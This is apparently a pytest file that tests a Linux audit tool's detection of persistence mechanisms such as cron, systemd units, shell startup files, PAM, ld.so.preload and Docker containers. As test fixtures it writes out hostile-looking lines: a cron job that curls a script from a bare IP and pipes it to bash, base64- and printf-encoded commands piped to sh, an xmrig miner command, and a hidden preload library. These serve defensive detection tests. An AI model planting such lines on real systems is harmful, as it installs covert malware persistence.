"""Each persistence placement in a temporary root: the collector finds the entry, names its place, trigger and
account, and resolves it to the program it starts; the detector judges that program."""
from __future__ import annotations

import base64
import json
import os
from pathlib import Path

import pytest

from audit_agent.collect import persistence as collector
from audit_agent.evaluate import evaluate
from audit_agent.model import Severity, Snapshot
from tests.factories import write_file as write

PASSWD = ("root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
          "alice:x:1000:1000:Alice:/home/alice:/bin/bash\nbob:x:1001:1001:Bob:/srv/people/bob:/bin/zsh\n")
PROGRAM = "/opt/tools/helper"



@pytest.fixture
def root(tmp_path: Path) -> Path:
    base = tmp_path / "root"
    write(base / "etc/passwd", PASSWD)
    write(base / PROGRAM.lstrip("/"), "#!/bin/sh\nexec /opt/tools/worker --threads 2\n", 0o755)
    write(base / "opt/tools/worker", "\x7fELF not really\n", 0o755)
    return base


def collect(root: Path):
    return collector.read_persistence(root / "etc")


def only(out, placement: str):
    found = [e for e in out.entries if e.placement == placement]
    assert found, f"no entry for {placement}: {[(e.placement, e.path) for e in out.entries]}"
    return found


# (file below the root, its text, placement, trigger, the account it runs as)
PLACES = [
    ("etc/crontab", f"*/5 * * * * root {PROGRAM} --quiet\n", "system crontab", "schedule", "root"),
    ("etc/cron.d/tools", f"@reboot root {PROGRAM}\n", "system crontab", "schedule", "root"),
    ("etc/cron.hourly/tools", f"#!/bin/sh\n{PROGRAM}\n", "cron.hourly", "schedule", "root"),
    ("var/spool/cron/crontabs/alice", f"@reboot {PROGRAM}\n", "user crontab", "schedule", "alice"),
    ("var/spool/cron/tabs/bob", f"0 * * * * {PROGRAM}\n", "user crontab", "schedule", "bob"),
    ("etc/anacrontab", f"SHELL=/bin/sh\n1\t5\tcron.daily\t{PROGRAM} --daily\n", "anacrontab", "schedule", "root"),
    ("var/spool/cron/atjobs/a0001a01a2b3c4",
     "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nHOME=/home/alice; export HOME\n"
     "cd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
     "${SHELL:-/bin/sh} << 'marcinDELIMITER2c1f'\n" + PROGRAM + " --at\nmarcinDELIMITER2c1f\n",
     "at job", "schedule", "alice"),
    ("etc/systemd/system/helper.service", f"[Service]\nExecStart={PROGRAM}\n[Install]\nWantedBy=multi-user.target\n",
     "system unit", "boot", "root"),
    ("run/systemd/generator/gen.service", f"[Service]\nExecStart={PROGRAM}\n", "generator output", "unit", "root"),
    ("usr/lib/systemd/system/vendor.service", f"[Service]\nUser=www-data\nExecStart={PROGRAM}\n", "vendor unit",
     "unit", "www-data"),
    ("etc/systemd/system/web.service.d/override.conf", f"[Service]\nExecStart=\nExecStart={PROGRAM}\n", "drop-in",
     "unit", "root"),
    ("etc/systemd/user/everyone.service", f"[Service]\nExecStart={PROGRAM}\n", "user unit for every user", "unit",
     "*"),
    ("etc/udev/rules.d/99-usb.rules", f'ACTION=="add", SUBSYSTEM=="usb", RUN+="{PROGRAM} %k"\n', "udev rule",
     "device", "root"),
    ("etc/rc.local", f"#!/bin/sh -e\n{PROGRAM} &\nexit 0\n", "rc.local", "boot", "root"),
    ("etc/init.d/helper", f"#!/bin/sh\ncase \"$1\" in\nstart)\n  start-stop-daemon --start --exec {PROGRAM} &\n;;\nesac\n",
     "init.d script", "boot", "root"),
    ("etc/profile.d/zz-helper.sh", f'if [ "$(id -u)" -eq 0 ]; then\n    {PROGRAM} >/dev/null 2>&1 &\nfi\n',
     "system shell startup", "login", "*"),
    ("etc/zsh/zshrc", f"[[ -o interactive ]] && {PROGRAM} &!\n", "system shell startup", "login", "*"),
    ("etc/fish/conf.d/helper.fish", f"{PROGRAM} &\n", "system shell startup", "login", "*"),
    ("etc/update-motd.d/50-helper", f"#!/bin/sh\n{PROGRAM}\n", "update-motd script", "ssh-login", "root"),
    ("etc/xdg/autostart/helper.desktop", f"[Desktop Entry]\nType=Application\nExec={PROGRAM} %U\n",
     "XDG autostart for every user", "login", "*"),
    ("home/alice/.bashrc", f"# aliases\nalias ll='ls -l'\n{PROGRAM} >/dev/null 2>&1 &\n", "user shell startup",
     "login", "alice"),
    ("home/alice/.zshrc", f"{PROGRAM} &!\n", "user shell startup", "login", "alice"),
    ("home/alice/.config/fish/config.fish", f"if status is-login\n    {PROGRAM} &\nend\n", "user shell startup",
     "login", "alice"),
    ("home/alice/.config/systemd/user/helper.service", f"[Service]\nExecStart={PROGRAM}\n", "systemd user unit",
     "unit", "alice"),
    ("home/alice/.local/share/systemd/user/helper2.service", f"[Service]\nExecStart={PROGRAM}\n",
     "systemd user unit", "unit", "alice"),
    ("home/alice/.config/autostart/helper.desktop", f"[Desktop Entry]\nExec={PROGRAM}\n", "XDG autostart",
     "login", "alice"),
    ("srv/people/bob/.ssh/authorized_keys",
     (f'command="{PROGRAM} --ssh",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMqz bob@laptop\n'
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlain bob@desk\n"), "authorized_keys", "ssh-login", "bob"),
    ("srv/people/bob/.ssh/rc", f"{PROGRAM}\n", "ssh rc", "ssh-login", "bob"),
    ("var/www/.profile", f"{PROGRAM} &\n", "user shell startup", "login", "www-data"),
    ("home/alice/.bash_aliases", f"alias x='ls'\n{PROGRAM} &\n", "user shell startup", "login", "alice"),
    ("etc/bash_completion.d/helper", f"{PROGRAM} >/dev/null 2>&1 &\n", "system shell startup", "login", "*"),
    ("etc/pam.d/common-session", (f"session optional pam_exec.so quiet seteuid {PROGRAM}\n"
     "session required pam_unix.so\n"), "pam_exec", "login", "root"),
    ("etc/ssh/sshd_config", f"Port 22\nMatch User backup\n    ForceCommand {PROGRAM} --restricted\n",
     "sshd ForceCommand", "ssh-login", "*"),
]


@pytest.mark.parametrize("rel, text, placement, trigger, user", PLACES, ids=[p[0] for p in PLACES])
def test_each_place_is_read_and_resolved(root: Path, rel: str, text: str, placement: str, trigger: str, user: str):
    write(root / rel, text)
    out = collect(root)
    [entry] = [e for e in only(out, placement) if e.path == str(root / rel) and e.programs]
    assert (entry.trigger, entry.user) == (trigger, user)
    assert entry.owner == "root" and entry.mtime and entry.ctime
    helper = next(p for p in entry.programs if p.path == PROGRAM)
    assert helper.exists and helper.uid == os.geteuid()
    # the helper is a script: what it runs is resolved too, and says how it was reached
    worker = next(p for p in entry.programs if p.path == "/opt/tools/worker")
    assert worker.via == f"script {PROGRAM}:2"


def test_a_timer_marks_its_service_and_enabled_units_start_at_boot(root: Path):
    units = root / "etc/systemd/system"
    write(units / "x7qk2m9z.timer", "[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=x7qk2m9z.service\n")
    write(units / "x7qk2m9z.service", f"[Service]\nExecStart={PROGRAM}\n")
    write(units / "enabled.service", f"[Service]\nExecStart={PROGRAM} --enabled\n")
    (units / "multi-user.target.wants").mkdir()
    os.symlink(units / "enabled.service", units / "multi-user.target.wants/enabled.service")
    out = collect(root)
    by_name = {Path(e.path).name: e for e in out.entries}
    assert by_name["x7qk2m9z.service"].trigger == "timer"
    assert by_name["x7qk2m9z.timer"].placement == "timer"
    assert by_name["enabled.service"].trigger == "boot"


def test_generators_and_preload_and_loader_paths(root: Path):
    write(root / "etc/systemd/system-generators/zz-gen", "#!/bin/sh\n/opt/tools/worker\n", 0o755)
    write(root / "etc/ld.so.preload", "/usr/local/lib/libhide.so\n")
    write(root / "usr/local/lib/libhide.so", "\x7fELF", 0o644)
    write(root / "etc/ld.so.conf.d/zz.conf", "/tmp/.libs\n")
    write(root / "etc/environment", 'PATH="/usr/bin"\nLD_PRELOAD=/usr/local/lib/libhide.so\n')
    out = collect(root)
    generator = only(out, "generator")[0]
    assert generator.text == "/etc/systemd/system-generators/zz-gen" and generator.trigger == "boot"
    assert [p.path for p in generator.programs][:2] == ["/etc/systemd/system-generators/zz-gen", "/opt/tools/worker"]
    preload = only(out, "ld.so.preload")[0]
    assert preload.user == "*" and preload.programs[0].exists and preload.programs[0].path == "/usr/local/lib/libhide.so"
    assert only(out, "ld.so.conf")[0].text == "/tmp/.libs"
    environment = only(out, "pam environment")[0]
    assert environment.programs[0].via == "LD_PRELOAD"


def test_docker_restart_policy_and_podman_spec(root: Path):
    container = root / "var/lib/docker/containers/abc123"
    write(container / "hostconfig.json", json.dumps({"RestartPolicy": {"Name": "unless-stopped"}}))
    write(container / "config.v2.json", json.dumps({"Name": "/web-cache", "Config": {
        "Image": "docker.io/library/alpine:3", "Entrypoint": ["/bin/sh", "-c"],
        "Cmd": ["/xmrig -o pool.example:3333"]}}))
    quiet = root / "var/lib/docker/containers/def456"
    write(quiet / "hostconfig.json", json.dumps({"RestartPolicy": {"Name": "no"}}))
    write(quiet / "config.v2.json", json.dumps({"Config": {"Image": "busybox", "Cmd": ["sleep", "1"]}}))
    write(root / "var/lib/containers/storage/overlay-containers/fed789/userdata/config.json",
          json.dumps({"process": {"args": ["/usr/bin/sleep", "infinity"]}}))
    out = collect(root)
    [docker] = only(out, "docker restart policy")
    assert docker.trigger == "restart" and "restart=unless-stopped" in docker.text and "image=docker.io" in docker.text
    assert "/xmrig -o pool.example:3333" in docker.text
    assert only(out, "podman container")[0].text.endswith("command=/usr/bin/sleep infinity")


def test_bad_json_in_a_container_folder_loses_nothing_else(root: Path):
    write(root / "var/lib/docker/containers/bad/hostconfig.json", "[" * 100000)
    write(root / "etc/cron.d/tools", f"@reboot root {PROGRAM}\n")
    out = collect(root)
    assert only(out, "system crontab")
    assert collector.persistence_coverage(out).status.value == "ok"


# ---------------------------------------------------------------- resolution through wrappers and encodings

ENCODED = base64.b64encode(f"{PROGRAM} --hidden".encode()).decode()
HEX = "".join(f"\\x{b:02x}" for b in f"{PROGRAM} --printf".encode())


@pytest.mark.parametrize("line, via", [
    (f"@reboot nohup env A=1 sh -c '{PROGRAM} -x' >/dev/null 2>&1 &", ""),
    (f"@reboot echo {ENCODED} | base64 -d | sh", "decoded"),
    (f"@reboot bash -c \"$(echo {ENCODED}|base64 --decode)\"", "decoded"),
    (f"@reboot printf '{HEX}' | sh", "decoded"),
    (f"@reboot sudo -u alice timeout 10 {PROGRAM}", ""),
])
def test_wrappers_and_encodings_resolve_to_the_program(root: Path, line: str, via: str):
    write(root / "var/spool/cron/crontabs/alice", line + "\n")
    [entry] = collect(root).entries
    helper = next(p for p in entry.programs if p.path == PROGRAM)
    assert helper.exists and helper.via == via
    if via:
        assert any(PROGRAM in text for text in entry.decoded)


def test_downloader_from_a_bare_ip_is_high(root: Path, compiled_rules):
    write(root / "var/spool/cron/crontabs/alice", "*/10 * * * * bash -c \"$(curl -fsSL http://198.51.100.7/i.sh)\"\n")
    out = collect(root)
    assert out.entries[0].downloads == ["http://198.51.100.7/i.sh"]
    [finding] = evaluate(Snapshot(persistence=out.entries), compiled_rules).findings
    assert finding.severity.rank >= Severity.HIGH.rank
    assert any("198.51.100.7" in evidence.value for evidence in finding.evidence)


def test_printf_encoded_cron_line_is_found(root: Path, compiled_rules):
    """The issue's printf-encoded cron line: the decoded command is judged, not the escapes."""
    hidden = "".join(f"\\x{b:02x}" for b in b"/tmp/.ICE-unix/.x/kswapd0 -B")
    write(root / "var/spool/cron/crontabs/alice", f"* * * * * printf '{hidden}' | sh\n")
    out = collect(root)
    [finding] = evaluate(Snapshot(persistence=out.entries), compiled_rules).findings
    assert "AA-PERSIST-006" in finding.rule_ids
    assert any("kswapd0" in reason for reason in finding.reasons)


def test_homes_left_out_at_the_time_limit_are_named(root: Path, monkeypatch):
    from audit_agent.collect.persistence import users
    monkeypatch.setattr(users, "MAX_USERS_SECONDS", -1.0)
    write(root / "etc/cron.d/tools", f"@reboot root {PROGRAM}\n")
    out = collect(root)
    coverage = collector.persistence_coverage(out)
    assert only(out, "system crontab")
    assert coverage.status.value == "partial" and "home folder(s) not read" in coverage.reason
    assert "alice" in coverage.reason
